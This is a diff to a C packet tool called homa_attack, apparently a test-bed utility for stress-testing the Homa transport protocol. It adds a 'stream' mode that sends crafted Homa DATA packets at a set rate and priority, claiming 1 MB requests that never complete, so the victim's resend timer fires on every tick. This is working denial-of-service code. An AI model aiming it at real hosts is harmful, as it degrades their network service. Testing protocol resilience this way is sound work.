@@ -20,6 +20,13 @@
  *	protocol number with no handler, e.g. 253) the same packets carry
  *	that protocol instead: the victim's IP layer drops them, which
  *	measures what receiving the flood costs the test bed without Homa.
+ * homa_attack stream ADDR DPORT TOS SECONDS PPS
+ *	A steady stream of new bytes at IP TOS TOS: PPS DATA packets a
+ *	second for SECONDS, 100 bytes each, for requests of 1 MB whose
+ *	every byte is unscheduled (incoming is the length, so the victim
+ *	grants none). Offsets go up; a request is left before its end and
+ *	the next id taken, so none completes. The victim's timer sees data
+ *	at that priority at every tick (resend_outranked). Prints "sent N".
  *
  * Exits 0 once the packets are sent ("errors" counts those the kernel
  * refused, e.g. with a full queue), 1 if the socket could not be made.
@@ -27,6 +34,7 @@
 
 #define _GNU_SOURCE
 #include <errno.h>
+#include <time.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -468,6 +476,54 @@ static int cmd_flood(char **argv, int proto)
 	return 0;
 }
 
+/* stream ADDR DPORT TOS SECONDS PPS: new bytes at TOS, PPS a second. */
+static int cmd_stream(char **argv)
+{
+	int tos = (int)strtol(argv[2], NULL, 0), payload = 100;
+	unsigned long long count, i, id = 1ULL << 40, offset = 0;
+	long gap_ns = 1000000000L / atol(argv[4]);
+	struct timespec next;
+	unsigned char *p;
+
+	if (set_target(argv[0], argv[1], IPPROTO_HOMA) < 0)
+		return 1;
+	if (tgt.family == AF_INET ?
+	    setsockopt(tgt.fd, IPPROTO_IP, IP_TOS, &tos, sizeof(tos)) :
+	    setsockopt(tgt.fd, IPPROTO_IPV6, IPV6_TCLASS, &tos, sizeof(tos))) {
+		printf("# TOS %d: %s\n", tos, strerror(errno));
+		return 1;
+	}
+	count = strtoull(argv[3], NULL, 0) * strtoull(argv[4], NULL, 0);
+	clock_gettime(CLOCK_MONOTONIC, &next);
+	for (i = 0; i < count; i++) {
+		if (offset + 2 * payload > MB) {
+			id += 2;
+			offset = 0;
+		}
+		p = bufs[0];
+		memset(p, 0, DATA_HDR + payload);
+		put_be(p, 2, 0x9000);
+		put_be(p + 2, 2, tgt.port_lo);
+		p[11] = DATA;
+		p[12] = 14 << 4;
+		put_be(p + 20, 8, id);
+		put_be(p + 28, 4, MB);
+		put_be(p + 32, 4, MB);
+		put_be(p + 52, 4, offset);
+		offset += payload;
+		queue(DATA_HDR + payload);
+		flush();
+		next.tv_nsec += gap_ns;
+		while (next.tv_nsec >= 1000000000L) {
+			next.tv_nsec -= 1000000000L;
+			next.tv_sec++;
+		}
+		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
+	}
+	printf("sent %llu errors %llu\n", sent, errors);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -476,8 +532,11 @@ int main(int argc, char **argv)
 	if ((argc == 5 || argc == 6) && !strcmp(argv[1], "flood"))
 		return cmd_flood(argv + 2,
 				 argc == 6 ? atoi(argv[5]) : IPPROTO_HOMA);
+	if (argc == 7 && !strcmp(argv[1], "stream"))
+		return cmd_stream(argv + 2);
 	printf("Usage: homa_attack crafted ADDR DPORT[-HI] SPORT PARITY IDMAX\n"
 	       "                          COUNT SEED |\n"
-	       "       homa_attack flood ADDR DPORT COUNT [PROTO]\n");
+	       "       homa_attack flood ADDR DPORT COUNT [PROTO] |\n"
+	       "       homa_attack stream ADDR DPORT TOS SECONDS PPS\n");
 	return 2;
 }
